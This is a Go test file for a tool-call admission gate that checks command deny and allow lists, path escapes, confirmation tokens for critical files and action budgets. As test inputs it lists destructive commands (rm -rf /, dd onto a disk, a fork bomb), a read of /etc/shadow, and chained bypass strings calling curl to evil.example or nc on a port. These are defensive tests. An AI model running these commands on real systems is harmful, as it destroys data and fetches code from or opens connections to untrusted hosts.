package gate

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest/observer"

	"github.com/fyrsmithlabs/warden/internal/budget"
	"github.com/fyrsmithlabs/warden/internal/cmdmatch"
	"github.com/fyrsmithlabs/warden/internal/confirm"
	"github.com/fyrsmithlabs/warden/internal/pathsafe"
	"github.com/fyrsmithlabs/warden/internal/risk"
)

type testEnv struct {
	gate   *Gate
	root   string
	issuer *confirm.Issuer
	ledger *budget.Ledger
	clock  *time.Time
	mu     *sync.Mutex
}

func newTestEnv(t *testing.T, opts ...Option) *testEnv {
	t.Helper()
	root := t.TempDir()
	resolver, err := pathsafe.NewResolver(root)
	require.NoError(t, err)

	now := time.Date(2026, 5, 1, 9, 0, 0, 0, time.UTC)
	var mu sync.Mutex
	clock := func() time.Time {
		mu.Lock()
		defer mu.Unlock()
		return now
	}
	issuer := confirm.NewIssuer(confirm.WithClock(clock))
	ledger := budget.MustLedger()

	g := New(resolver, issuer, ledger, append([]Option{WithName(t.Name())}, opts...)...)
	return &testEnv{gate: g, root: root, issuer: issuer, ledger: ledger, clock: &now, mu: &mu}
}

func (e *testEnv) advance(d time.Duration) {
	e.mu.Lock()
	defer e.mu.Unlock()
	*e.clock = e.clock.Add(d)
}

func cmd(c string) map[string]any { return map[string]any{"command": c} }

func TestCheckAdmission_SafeReadonlyCommand(t *testing.T) {
	env := newTestEnv(t)

	d := env.gate.CheckAdmission(context.Background(), "execute_command", cmd("ls -la"), "")
	assert.True(t, d.Allowed)
	assert.Equal(t, SeveritySafe, d.Severity)
	assert.Empty(t, d.Evidence)
	assert.Equal(t, risk.ReadOnly, d.Tier)
}

func TestCheckAdmission_DenylistAlwaysBlocks(t *testing.T) {
	allowAll := cmdmatch.NewPolicy(
		cmdmatch.MustPatternSet(cmdmatch.DefaultDenyRules()),
		cmdmatch.MustPatternSet([]cmdmatch.Rule{{ID: "all", Pattern: `.*`}}),
	)
	env := newTestEnv(t, WithCommandPolicy(allowAll))

	for _, c := range []string{
		"rm -rf /",
		"git reset --hard origin/main",
		"git push --force",
		"sudo rm file",
		"chmod 777 app",
		"dd if=/dev/zero of=/dev/sda",
		"kill -9 1",
		":(){ :|:& };:",
	} {
		t.Run(c, func(t *testing.T) {
			d := env.gate.CheckAdmission(context.Background(), "execute_command", cmd(c), "")
			assert.False(t, d.Allowed)
			assert.Equal(t, SeverityBlock, d.Severity)
			assert.Equal(t, CheckCommand, d.Check)
			require.NotEmpty(t, d.Evidence)
			assert.Contains(t, d.Evidence[0], "denylist")
		})
	}
}

func TestCheckAdmission_NotInAllowlist(t *testing.T) {
	env := newTestEnv(t)

	d := env.gate.CheckAdmission(context.Background(), "bash", cmd("curl https://example.com"), "")
	assert.False(t, d.Allowed)
	assert.Equal(t, SeverityBlock, d.Severity)
	assert.Contains(t, d.Evidence, "not in allowlist")
}

func TestCheckAdmission_MissingCommandFailsClosed(t *testing.T) {
	env := newTestEnv(t)
	d := env.gate.CheckAdmission(context.Background(), "execute_command", nil, "")
	assert.False(t, d.Allowed)
	assert.Equal(t, CheckCommand, d.Check)
}

func TestCheckAdmission_Paths(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()

	d := env.gate.CheckAdmission(ctx, "write_file", map[string]any{"path": "../../outside.txt"}, "")
	assert.False(t, d.Allowed)
	assert.Equal(t, CheckPath, d.Check)
	assert.True(t, containsSubstring(d.Evidence, "outside root"))

	d = env.gate.CheckAdmission(ctx, "read_file", map[string]any{"path": "/etc/shadow"}, "")
	assert.False(t, d.Allowed)
	assert.True(t, containsSubstring(d.Evidence, "protected system path"))

	d = env.gate.CheckAdmission(ctx, "write_file", map[string]any{"path": "src/main.go"}, "")
	assert.True(t, d.Allowed)
	assert.Equal(t, SeveritySafe, d.Severity)
	assert.Equal(t, risk.WriteNormal, d.Tier)
}

func TestCheckAdmission_ProtectedInsideRoot(t *testing.T) {
	root := t.TempDir()
	resolver, err := pathsafe.NewResolver(root, pathsafe.WithProtectedPaths([]string{filepath.Join(root, "secrets")}))
	require.NoError(t, err)
	g := New(resolver, confirm.NewIssuer(), budget.MustLedger(), WithName(t.Name()))

	d := g.CheckAdmission(context.Background(), "write_file", map[string]any{"path": "secrets/key"}, "")
	assert.False(t, d.Allowed)
	assert.True(t, containsSubstring(d.Evidence, "protected system path"))
}

func TestCheckAdmission_SymlinkEscape(t *testing.T) {
	env := newTestEnv(t)
	outside := t.TempDir()
	if err := os.Symlink(outside, filepath.Join(env.root, "link")); err != nil {
		t.Skipf("symlinks unavailable: %v", err)
	}

	d := env.gate.CheckAdmission(context.Background(), "write_file", map[string]any{"path": "link/payload.sh"}, "")
	assert.False(t, d.Allowed)
	assert.True(t, containsSubstring(d.Evidence, "outside root"))
}

func TestCheckAdmission_CriticalWriteRequiresToken(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	params := map[string]any{"path": "package.json", "content": "{}"}

	d := env.gate.CheckAdmission(ctx, "write_file", params, "")
	assert.False(t, d.Allowed)
	assert.Equal(t, CheckConfirmation, d.Check)
	assert.Contains(t, d.Evidence, "critical file: package.json")
	assert.True(t, containsSubstring(d.Evidence, "remediation"))

	tok := env.issuer.Issue("package.json")
	d = env.gate.CheckAdmission(ctx, "write_file", params, tok.Value)
	require.True(t, d.Allowed, d.Reason)
	assert.Equal(t, SeverityWarn, d.Severity)
	assert.Equal(t, risk.WriteCritical, d.Tier)
	assert.Contains(t, d.Evidence, "confirmation token accepted for package.json")
	assert.True(t, containsSubstring(d.Evidence, "risky action, budget ok"))

	// One-shot: the same token is rejected the second time.
	d = env.gate.CheckAdmission(ctx, "write_file", params, tok.Value)
	assert.False(t, d.Allowed)
	assert.True(t, containsSubstring(d.Evidence, "already used"))
}

func TestCheckAdmission_SymlinkToCriticalRequiresToken(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	require.NoError(t, os.WriteFile(filepath.Join(env.root, "go.mod"), []byte("module x\n"), 0o600))
	if err := os.Symlink("go.mod", filepath.Join(env.root, "notes.txt")); err != nil {
		t.Skipf("symlinks unavailable: %v", err)
	}
	params := map[string]any{"path": "notes.txt"}

	d := env.gate.CheckAdmission(ctx, "write_file", params, "")
	assert.False(t, d.Allowed)
	assert.Equal(t, SeverityBlock, d.Severity)
	assert.Equal(t, CheckConfirmation, d.Check)
	assert.Equal(t, risk.WriteCritical, d.Tier)
	assert.Contains(t, d.Evidence, "confirmation token required")

	tok := env.issuer.Issue("go.mod via notes.txt")
	d = env.gate.CheckAdmission(ctx, "write_file", params, tok.Value)
	require.True(t, d.Allowed, d.Reason)
	assert.Equal(t, risk.WriteCritical, d.Tier)
	assert.True(t, containsSubstring(d.Evidence, "risky action, budget ok"))
	assert.Equal(t, 1, env.ledger.Status().RiskyActionsInWindow)
}

func TestCheckAdmission_ChainedCommandBypass(t *testing.T) {
	env := newTestEnv(t)

	for _, c := range []string{
		"ls & python evil.py",
		"echo $(curl http://evil.example/x)",
		"cat `nc -l 4444`",
		"ls\tfoo & wget http://x",
	} {
		t.Run(c, func(t *testing.T) {
			d := env.gate.CheckAdmission(context.Background(), "execute_command", cmd(c), "")
			assert.False(t, d.Allowed)
			assert.Equal(t, SeverityBlock, d.Severity)
			assert.Equal(t, CheckCommand, d.Check)
		})
	}
}

func TestCheckAdmission_ExpiredToken(t *testing.T) {
	env := newTestEnv(t)
	tok := env.issuer.Issue("")
	env.advance(confirm.DefaultTTL + time.Second)

	d := env.gate.CheckAdmission(context.Background(), "edit_file", map[string]any{"path": "go.mod"}, tok.Value)
	assert.False(t, d.Allowed)
	assert.True(t, containsSubstring(d.Evidence, "expired"))
}

func TestCheckAdmission_MismatchedToken(t *testing.T) {
	env := newTestEnv(t)
	env.issuer.Issue("")

	d := env.gate.CheckAdmission(context.Background(), "edit_file", map[string]any{"path": "go.mod"}, "forged")
	assert.False(t, d.Allowed)
	assert.True(t, containsSubstring(d.Evidence, "mismatch"))
}

func TestCheckAdmission_CriticalReadIsFlaggedNotGated(t *testing.T) {
	env := newTestEnv(t)
	d := env.gate.CheckAdmission(context.Background(), "read_file", map[string]any{"path": ".env"}, "")
	assert.True(t, d.Allowed)
	assert.Equal(t, SeverityWarn, d.Severity)
	assert.Equal(t, []string{"critical file: .env"}, d.Evidence)
}

func TestCheckAdmission_BudgetExhaustion(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()

	allowed := 0
	var last Decision
	for i := 0; i < 20; i++ {
		last = env.gate.CheckAdmission(ctx, "self_modify", nil, "")
		if !last.Allowed {
			break
		}
		allowed++
	}
	assert.Equal(t, 5, allowed)
	assert.Equal(t, CheckBudget, last.Check)
	assert.Contains(t, last.Reason, "exhausted")

	// Blocked decisions are not charged to the ledger.
	assert.Equal(t, int64(5), env.ledger.Status().TotalActions)
}

func TestCheckAdmission_InvariantSeverity(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	calls := []struct {
		tool   string
		params map[string]any
	}{
		{"execute_command", cmd("ls")},
		{"execute_command", cmd("rm -rf /")},
		{"write_file", map[string]any{"path": "a.txt"}},
		{"write_file", map[string]any{"path": "go.sum"}},
		{"read_file", map[string]any{"path": "Makefile"}},
		{"self_modify", nil},
		{"", nil},
	}
	for _, c := range calls {
		d := env.gate.CheckAdmission(ctx, c.tool, c.params, "")
		assert.Equal(t, d.Severity == SeverityBlock, !d.Allowed)
		assert.Equal(t, d.Severity == SeverityWarn, d.Allowed && len(d.Evidence) > 0)
	}
}

func TestGate_StatsAndRingBuffer(t *testing.T) {
	env := newTestEnv(t, WithLogCapacity(4))
	ctx := context.Background()

	env.gate.CheckAdmission(ctx, "execute_command", cmd("ls"), "")
	env.gate.CheckAdmission(ctx, "execute_command", cmd("rm -rf /"), "")
	env.gate.CheckAdmission(ctx, "read_file", map[string]any{"path": "go.mod"}, "")

	st := env.gate.Stats()
	assert.Equal(t, Stats{Total: 3, Blocked: 1, Warned: 1, Safe: 1, BlockRate: 1.0 / 3.0}, st)

	for i := 0; i < 5; i++ {
		env.gate.CheckAdmission(ctx, "execute_command", cmd("pwd"), "")
	}
	st = env.gate.Stats()
	assert.Equal(t, 4, st.Total)
	assert.Equal(t, 0, st.Blocked)
	assert.Len(t, env.gate.Entries(), 4)

	env.gate.ResetLog()
	assert.Equal(t, Stats{}, env.gate.Stats())
}

func TestGate_DefaultCapacityIsBounded(t *testing.T) {
	env := newTestEnv(t)
	for i := 0; i < DefaultLogCapacity+50; i++ {
		env.gate.CheckAdmission(context.Background(), "read_file", nil, "")
	}
	assert.Equal(t, DefaultLogCapacity, env.gate.Stats().Total)
}

func TestGate_SinkReceivesOnlyBlocked(t *testing.T) {
	var mu sync.Mutex
	var got []Entry
	sink := SinkFunc(func(_ context.Context, e Entry) {
		mu.Lock()
		defer mu.Unlock()
		got = append(got, e)
	})
	env := newTestEnv(t, WithSink(sink))
	ctx := context.Background()

	env.gate.CheckAdmission(ctx, "execute_command", cmd("ls"), "")
	env.gate.CheckAdmission(ctx, "execute_command", cmd("git push -f"), "")

	require.Len(t, got, 1)
	assert.Equal(t, "execute_command", got[0].Tool)
	assert.False(t, got[0].Decision.Allowed)
}

func TestGate_LogSink(t *testing.T) {
	core, logs := observer.New(zap.DebugLevel)
	env := newTestEnv(t, WithSink(NewLogSink(zap.New(core))))

	env.gate.CheckAdmission(context.Background(), "execute_command", cmd("sudo ls"), "")
	entries := logs.FilterMessage("admission blocked").All()
	require.Len(t, entries, 1)
	assert.Equal(t, "execute_command", entries[0].ContextMap()["tool"])
}

func TestGate_RedactsSnapshot(t *testing.T) {
	redact := func(s string) string { return strings.ReplaceAll(s, "hunter2", "[REDACTED]") }
	env := newTestEnv(t, WithRedactor(redact))

	env.gate.CheckAdmission(context.Background(), "write_file", map[string]any{
		"path":    "notes.txt",
		"content": "password=hunter2 " + strings.Repeat("x", 1000),
		"mode":    420,
		"nested":  map[string]any{"a": 1},
	}, "")

	entries := env.gate.Entries()
	require.Len(t, entries, 1)
	content := entries[0].Params["content"].(string)
	assert.NotContains(t, content, "hunter2")
	assert.True(t, strings.HasSuffix(content, "...[truncated]"))
	assert.Equal(t, 420, entries[0].Params["mode"])
	assert.Equal(t, "<map[string]interface {}>", entries[0].Params["nested"])
}

type panicClassifier struct{}

func (panicClassifier) Classify(string, map[string]any) risk.Tier { panic("boom") }
func (panicClassifier) IsWriteTool(string) bool                   { return false }
func (panicClassifier) IsCommandTool(string) bool                 { return false }

func TestCheckAdmission_PanicFailsClosed(t *testing.T) {
	env := newTestEnv(t, WithClassifier(panicClassifier{}))

	d := env.gate.CheckAdmission(context.Background(), "read_file", nil, "")
	assert.False(t, d.Allowed)
	assert.Equal(t, SeverityBlock, d.Severity)
	assert.Equal(t, CheckInternal, d.Check)
	assert.Contains(t, d.Reason, "boom")
	assert.Equal(t, 1, env.gate.Stats().Blocked)
}

func TestCheckAdmission_Unconfigured(t *testing.T) {
	g := New(nil, nil, nil, WithName(t.Name()))
	d := g.CheckAdmission(context.Background(), "read_file", nil, "")
	assert.False(t, d.Allowed)
	assert.Equal(t, "gate not configured", d.Reason)
}

func TestCheckAdmission_DecisionIsCopied(t *testing.T) {
	env := newTestEnv(t)
	d := env.gate.CheckAdmission(context.Background(), "read_file", map[string]any{"path": "go.mod"}, "")
	require.NotEmpty(t, d.Evidence)
	d.Evidence[0] = "tampered"

	assert.Equal(t, "critical file: go.mod", env.gate.Entries()[0].Decision.Evidence[0])
}

func TestGate_IndependentContexts(t *testing.T) {
	a := newTestEnv(t)
	b := newTestEnv(t)

	for i := 0; i < 5; i++ {
		a.gate.CheckAdmission(context.Background(), "self_modify", nil, "")
	}
	assert.False(t, a.gate.CheckAdmission(context.Background(), "self_modify", nil, "").Allowed)
	assert.True(t, b.gate.CheckAdmission(context.Background(), "self_modify", nil, "").Allowed)
	assert.Equal(t, 0, b.gate.Stats().Blocked)
}

func TestGate_SetCommandPolicy(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	require.False(t, env.gate.CheckAdmission(ctx, "bash", cmd("terraform plan"), "").Allowed)

	env.gate.SetCommandPolicy(cmdmatch.NewPolicy(
		cmdmatch.MustPatternSet(cmdmatch.DefaultDenyRules()),
		cmdmatch.MustPatternSet([]cmdmatch.Rule{{ID: "tf", Pattern: `^terraform\s+plan\b`}}),
	))
	assert.True(t, env.gate.CheckAdmission(ctx, "bash", cmd("terraform plan"), "").Allowed)
}

func containsSubstring(list []string, sub string) bool {
	for _, s := range list {
		if strings.Contains(s, sub) {
			return true
		}
	}
	return false
}
